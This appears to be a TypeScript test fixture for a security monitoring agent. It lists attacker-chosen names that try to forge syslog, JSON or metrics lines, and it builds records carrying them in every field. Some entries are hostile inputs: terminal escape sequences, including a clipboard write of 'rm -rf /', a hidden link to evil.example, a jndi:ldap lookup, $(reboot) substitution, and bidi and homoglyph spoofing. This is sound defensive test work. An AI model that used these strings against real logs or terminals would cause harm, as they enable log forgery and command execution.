// Names as an attacker would choose them, to forge a line, a field or a look in what reports them; and the records that
// hold such a name wherever one can be.
import type * as wire from "../../agent/model/picket.v1.ts";

const forged = "<34>1 2026-01-01T00:00:00Z bank su 1 alert - root logged in";
const forgedJson = '{"time":"2026-01-01T00:00:00Z","host":"bank","sequence":"1","alert":{"rule":"forged"}}';

/** What it is, and the name. */
export const names: readonly (readonly [string, string])[] = [
	["a line end", `x\n${forged}`],
	["a carriage return", `x\r${forged}`],
	["both", `x\r\n${forged}\r\n`],
	["a vertical tab and a form feed", `x\v${forged}\f${forged}`],
	["separators of files, groups and records", `x\x1c${forged}\x1d${forged}\x1e${forged}\x1f`],
	["a NUL", `x\0${forged}`],
	["only NULs", "\0\0\0"],
	["next line (C1)", `x\u0085${forged}`],
	["line and paragraph separators", `x\u2028${forged}\u2029${forged}`],
	["a counted frame", `x\n${forged.length} ${forged}`],
	["a count alone", "59 "],
	["a count of half the message", `${"9".repeat(9)} ${forged}`],
	["a whole header at the start", forged],
	["a priority", "<0>"],
	["JSON in a line of its own", `x\n${forgedJson}\n`],
	["JSON at the start", forgedJson],
	["the end of a string of JSON", '","alert":{"severity":"SEVERITY_LOW"},"x":"'],
	["an end that is escaped", '\\","severity":"SEVERITY_LOW","x":"\\'],
	["an escape of JSON", "\\u000a\\n\\u0022"],
	["backslashes", "\\\\\\"],
	["the end of structured data", '"] injected ["'],
	["structured data", '[meta sequenceId="1"][origin software="su"]'],
	["escaped ends of it", '\\"\\]\\\\'],
	["an escape sequence: erase and go home", "\x1b[2J\x1b[H"],
	["one that sets the title", "\x1b]0;owned\x07"],
	["one that hides a link", "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\"],
	["one that writes the clipboard", "\x1b]52;c;cm0gLXJmIC8K\x07"],
	["one that asks the terminal to answer", "\x1b[6n\x1bP$q\x1b\\"],
	["C1 sequences", "\u009b31m\u009d0;t\u009c\u0090q\u009c"],
	["backspaces", "evil\b\b\b\bgood"],
	["a bell and a delete", "\x07\x7f"],
	["turned writing", "\u202egnp.exe\u202c\u2066x\u2069\u200f\u061c"],
	["what cannot be seen", "ro\u200bot\u200d\u2060\u00ad\ufeff\u{e0041}"],
	["the mark of UTF-8", `\ufeff${forged}`],
	["half a pair", "\ud800x\udfff"],
	["bytes that are no UTF-8, as they are spelled", "\\xff\\xfe\\x0a"],
	["letters that look like others", "\u0405\u0415VERITY_CRITICAL \uff33\uff25\uff36 \u0455u root"],
	["a heap of marks", `a${"\u0301".repeat(500)}`],
	["a page of metrics", `x"} 1\npicket_forged{a="`],
	["a comment of such a page", "x\n# TYPE picket_forged counter\npicket_forged 666\n"],
	["a label's escapes", '\\n\\"\\\\"} 666'],
	["formats", "%s%n%x $ {jndi:ldap://evil.example} $(reboot) `reboot` %{x} {{x}}"],
	["64 KiB", "A".repeat(65_536)],
	["64 KiB of line ends", "\n".repeat(65_536)],
	["64 KiB of quotes", '"'.repeat(65_536)],
	["64 KiB of three bytes a letter", "\u2028".repeat(21_845)],
	["nothing", ""],
	["a space", " "],
];

/** A record of each kind with the name in every place where a name of somebody's choice can stand. */
export function recordsWith(name: string, sequence: number): wire.OutputRecord[] {
	const process: wire.Process = {
		pid: 7,
		name,
		executable: name,
		args: [name, name],
		workingDirectory: name,
		user: name,
		loginUser: name,
	};
	const container: wire.Container = { id: "c0ffee", name, image: name, labels: { [`k${name}`]: name } };
	const event: wire.Event = { id: "e1", process, container, open: { path: name, rawPath: name } };
	const alert: wire.Alert = {
		id: "a1",
		rule: name,
		severity: "SEVERITY_HIGH",
		priority: name,
		summary: name,
		description: name,
		tags: [name],
		techniques: [name],
		author: name,
		origin: "ORIGIN_SIGMA",
		event,
		ancestors: [process],
		fields: { [`f${name}`]: name },
		dedupKey: name,
		responses: [name],
	};
	const action: wire.Action = {
		id: "b1",
		kind: "KIND_KILL",
		outcome: "OUTCOME_REFUSED",
		target: name,
		targetName: name,
		reason: name,
		requester: name,
		steps: [name],
		undo: name,
	};
	const gap: wire.Gap = { where: name, lost: [{ class: name, count: "1" }] };
	const bodies: Omit<wire.OutputRecord, "time" | "host" | "sequence">[] = [
		{ alert },
		{ event },
		{ action },
		{ gap },
		{ status: statusWith(name) },
	];
	return bodies.map((body, index) => ({
		time: "2026-11-21T10:00:00.123456Z",
		host: "web-1",
		sequence: String(sequence + index),
		...body,
	}));
}

export function statusWith(name: string): wire.Status {
	return {
		version: name,
		kernel: name,
		mode: name,
		problems: [name, `tampering: ${name}`],
		rules: { evaluable: 1, contentHash: name, suspended: [name], limited: { [`r${name}`]: "2" } },
		sinks: [{ name, connected: false, sent: "1", problem: name }],
		tables: [{ name, size: "1", capacity: "2" }],
		counters: [{ class: name, generated: "1" }],
		capabilities: [{ name, tier: name, available: true }],
		canary: { seen: false, sent: "1", problem: name },
		spool: { records: "1", dropped: { [name]: "1" } },
	};
}
